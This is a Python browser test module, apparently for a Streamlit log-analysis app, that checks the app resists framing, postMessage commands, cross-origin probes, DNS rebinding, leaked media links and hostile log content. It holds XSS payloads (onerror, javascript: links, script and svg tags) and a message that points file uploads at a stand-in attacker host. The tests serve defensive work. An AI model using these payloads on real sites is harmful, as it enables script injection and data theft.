"""Attacks by pages of other sites, and by hostile content, in a real browser. Each returns whether it worked: none may."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress

import httpx2
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect

from tests.browser.walker import WAIT, Walker

EVIL = "https://evil.streamlit.app/"  # of a host that Streamlit trusts by default
REBOUND = "rebound.example"  # leads to this machine (`tests.browser.conftest`)
CALLS = "https://calls-home.example/"
_SETTLE = 8_000  # milliseconds
_MARKUP = (
    f"<img src='{CALLS}a.png' onerror='window.hacked=1'> ![b]({CALLS}b.png) [c](javascript:window.hacked=2) "
    f"<script>window.hacked=3</script> <a href='javascript:window.hacked=4'>d</a> $\\href{{javascript:window.hacked=5}}{{e}}$ "
    f":material/{CALLS}: <link rel=stylesheet href='{CALLS}f.css'> <svg onload='window.hacked=6'>"
)
NAME = "![n](https:calls-home.example) [n](javascript:window.hacked=7) <b>n<b>.log"
HOSTILE = "\n".join(f"2026-03-02T10:{i // 60:02d}:{i % 60:02d}Z INFO ST0{i % 4} {_MARKUP}" for i in range(60)).encode()


def _page_of_evil(context: BrowserContext, script: str, body: str = "") -> Page:
    """A page of the attacker's, with a script."""
    html = f"<!doctype html><title>evil</title><body>{body}<script>{script}</script>"
    context.route(f"{EVIL}**", lambda route: route.fulfill(content_type="text/html", body=html))
    page = context.new_page()
    page.goto(EVIL)
    return page


def framed(browser: Browser, url: str) -> bool:
    """The app inside a page of the attacker's."""
    context = browser.new_context()
    try:
        page = _page_of_evil(context, "", f"<iframe src='{url}' width=800 height=600></iframe>")
        page.wait_for_timeout(_SETTLE)
        return any(_has_app(frame) for frame in page.frames)
    finally:
        context.close()


def _has_app(frame: object) -> bool:
    with suppress(Error):
        return bool(frame.locator("[data-testid='stApp']").count())  # type: ignore[attr-defined]
    return False


def commanded(browser: Browser, url: str) -> bool:
    """Commands to the app by messages, from a page that has opened it, and from one around it."""
    message = (
        "{stCommVersion: 1, type: 'UPDATE_HASH', hash: 'commanded'}",
        "{stCommVersion: 1, type: 'SET_FILE_UPLOAD_CLIENT_CONFIG', prefix: 'https://evil.example/', headers: {}}",
        "{stCommVersion: 1, type: 'UPDATE_FROM_QUERY_PARAMS', queryParams: 'commanded=1'}",
    )
    posts = "".join(f"to.postMessage({one}, '*');" for one in message)
    script = (
        f"window.opened = window.open('{url}', 'app');"
        f"setInterval(() => {{ for (const to of [opened, frames[0]]) try {{ {posts} }} catch (e) {{}} }}, 200);"
    )
    context = browser.new_context()
    try:
        page = _page_of_evil(context, "", f"<iframe src='{url}'></iframe>")
        with page.expect_popup() as popped:
            page.evaluate(script)
        app = popped.value
        expect(app.get_by_test_id("stApp")).to_be_visible(timeout=WAIT)
        app.wait_for_timeout(_SETTLE)
        return any("commanded" in address for address in (app.url, *(frame.url for frame in page.frames)))
    finally:
        context.close()


def connected(browser: Browser, url: str) -> bool:
    """A stream of the app for the attacker's page, or an answer that it can read."""
    script = f"""
        window.found = [];
        const socket = new WebSocket('{url.replace("http", "ws")}/_stcore/stream', ['streamlit']);
        socket.onopen = () => found.push('stream');
        for (const path of ['/', '/_stcore/host-config', '/_stcore/metrics', '/_stcore/health'])
          fetch('{url}' + path).then(answer => answer.text()).then(text => found.push(path)).catch(() => 0);
        const picture = new Image();
        picture.onload = () => found.push('picture');
        picture.src = '{url}/favicon.png';"""
    context = browser.new_context()
    try:
        page = _page_of_evil(context, script)
        page.wait_for_timeout(_SETTLE)
        return bool(page.evaluate("window.found"))
    finally:
        context.close()


def rebound(browser: Browser, url: str) -> bool:
    """The app under the name of a site of the attacker's that leads to this machine."""
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(url.replace("localhost", REBOUND))
        page.wait_for_timeout(_SETTLE)
        return _has_app(page.main_frame)
    finally:
        context.close()


def content(browser: Browser, url: str) -> bool:
    """Lines and a name with markup, scripts, and pictures that call home."""
    context = browser.new_context()
    try:
        walker = Walker(context, url)
        context.route(f"{CALLS}**", lambda route: route.fulfill(body=""))
        walker.open("analyse")
        decision = walker.analyse(NAME, HOSTILE)
        for page in ("selection", "explain", "record"):
            walker.open(page, decision=decision)
        links = walker.page.locator("a[href^='javascript'], img[src^='http'], iframe, link[href*='calls-home']").count()
        problems = [problem for problem in walker.problems if "dialog" in problem]
        return bool(walker.page.evaluate("window.hacked || 0") or links or walker.outside or problems)
    finally:
        context.close()


def media(browser: Browser, url: str, sign_in: Callable[[Walker], None], decision: str) -> bool:
    """A file's address without the cookie, from another browser, and after its person has signed out."""
    context, other = browser.new_context(), browser.new_context()
    try:
        walker, stranger = Walker(context, url), Walker(other, url)
        sign_in(walker)
        walker.open("record", decision=decision)
        with walker.page.expect_download() as taken:
            walker.page.get_by_role("button", name="Download entries").first.click()
            walker.page.get_by_role("button", name="CSV").first.click()
        address = taken.value.url
        assert "/media/" in address
        assert context.request.get(address).status == 200  # its own browser may
        sign_in(stranger)
        loose = httpx2.get(address).status_code == 200 or other.request.get(address).status == 200
        walker.refused = True  # the log that is open asks on for what its person may no longer read
        walker.press("account_menu")
        walker.press("sign_out")
        expect(walker.key("sign_in_login")).to_be_visible(timeout=WAIT)
        return loose or context.request.get(address).status == 200
    finally:
        context.close()
        other.close()


ALONE: dict[str, Callable[[Browser, str], bool]] = {
    "framed by a page": framed,
    "commanded by a page": commanded,
    "connected from a page": connected,
    "rebound name": rebound,
    "hostile content": content,
}
"""What is tried on the app of one user, by name."""
